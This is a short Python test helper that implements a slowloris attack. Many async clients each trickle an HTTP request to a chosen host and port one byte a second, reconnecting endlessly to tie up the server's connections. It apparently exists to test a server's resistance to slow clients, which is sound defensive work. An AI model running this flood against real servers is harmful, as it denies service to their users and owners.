"""A slow stranger, many times over (tests only): ``python -m tests.slowloris HOST PORT CLIENTS``.

Each client connects, sends one byte of a request a second, and connects again as soon as it is dropped
or after 6 s. Once a second it prints how many connections it holds (one number per line), so a test can
wait until the flood is on. Runs until killed."""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time

TRICKLE = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 200


async def client(host: str, port: int, held: list[int]) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        held[0] += 1
        try:
            started = time.monotonic()
            for byte in TRICKLE:
                if time.monotonic() - started > 6:
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1), 1.0)  # a second a byte; b"" when dropped
                if reader.at_eof():
                    break
        except OSError:
            pass
        finally:
            held[0] -= 1
            writer.close()


async def main(host: str, port: int, clients: int) -> None:
    held = [0]
    tasks = [asyncio.create_task(client(host, port, held)) for _ in range(clients)]
    while True:
        print(held[0], flush=True)
        await asyncio.sleep(1.0)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
